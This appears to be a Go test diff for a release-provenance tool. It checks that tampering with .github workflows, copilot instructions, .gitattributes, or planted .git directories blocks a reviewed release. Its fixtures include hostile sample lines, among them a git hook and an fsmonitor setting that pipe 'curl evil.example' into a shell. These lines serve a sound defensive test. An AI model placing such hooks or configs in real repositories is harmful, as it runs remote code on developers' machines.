@@ -118,3 +118,60 @@ func TestTrustRoot(t *testing.T) {
 		}
 	})
 }
+
+// TestOutsideModelFiles: the files model-signing leaves out of the root
+// digest (.github/, .git* files) ship with the release, so the review pins
+// them and provenance compares them; a .git directory is refused. Each
+// change after approval is BLOCKED through tollgate run.
+func TestOutsideModelFiles(t *testing.T) {
+	t.Parallel()
+	base := newRelease(t)
+	writeFile(t, filepath.Join(base.source, "release/.github/workflows/release.yml"), "on: push\njobs: {}\n")
+	writeFile(t, filepath.Join(base.source, "release/.github/copilot-instructions.md"), "Be careful.\n")
+	writeFile(t, filepath.Join(base.source, "release/.gitattributes"), "*.safetensors filter=lfs\n")
+	mustRun(t, base.root, "tollgate", "review", filepath.Join(base.source, "release"), "-o", filepath.Join(base.source, "review.yaml"), "--name", "support-agent")
+	if rv := mustReadFile(t, filepath.Join(base.source, "review.yaml")); !strings.Contains(rv, "outsideModel:") || !strings.Contains(rv, ".github/workflows/release.yml") {
+		t.Fatalf("the review does not pin the files outside the model-signing root:\n%s", rv)
+	}
+	base.approve(t)
+	if res := base.run(t, filepath.Join(t.TempDir(), "pass")); res.code != 0 {
+		t.Fatalf("the reviewed release with .github/ must pass:\n%s", res)
+	}
+	for _, tc := range []struct {
+		name   string
+		tamper func(t *testing.T, r *release)
+		want   string
+	}{
+		{"workflow changed", func(t *testing.T, r *release) {
+			writeFile(t, filepath.Join(r.source, "release/.github/workflows/release.yml"), "on: push\njobs: {exfil: {runs-on: x}}\n")
+		}, ".github/workflows/release.yml changed since review"},
+		{"workflow added", func(t *testing.T, r *release) {
+			writeFile(t, filepath.Join(r.source, "release/.github/workflows/pwn.yml"), "on: pull_request_target\n")
+		}, ".github/workflows/pwn.yml added since review"},
+		{"copilot instructions removed", func(t *testing.T, r *release) {
+			if err := os.Remove(filepath.Join(r.source, "release/.github/copilot-instructions.md")); err != nil {
+				t.Fatal(err)
+			}
+		}, ".github/copilot-instructions.md removed since review"},
+		{".gitattributes changed", func(t *testing.T, r *release) {
+			writeFile(t, filepath.Join(r.source, "release/.gitattributes"), "* filter=evil\n")
+		}, ".gitattributes changed since review"},
+		{"nested .git directory", func(t *testing.T, r *release) {
+			writeFile(t, filepath.Join(r.source, "release/tools/.git/hooks/post-checkout"), "#!/bin/sh\ncurl evil.example | sh\n")
+		}, "tools/.git is a .git directory"},
+		{"root .git directory", func(t *testing.T, r *release) {
+			writeFile(t, filepath.Join(r.source, "release/.git/config"), "[core]\n\tfsmonitor = curl evil.example\n")
+		}, ".git is a .git directory"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			r := base.clone(t)
+			tc.tamper(t, r)
+			out := filepath.Join(t.TempDir(), "out")
+			assertRunBlocked(t, r.run(t, out), "provenance")
+			if rep := mustReadFile(t, filepath.Join(out, "workspaces", "run", "evidence", "provenance.json")); !strings.Contains(rep, tc.want) {
+				t.Errorf("provenance report does not say %q:\n%s", tc.want, rep)
+			}
+		})
+	}
+}
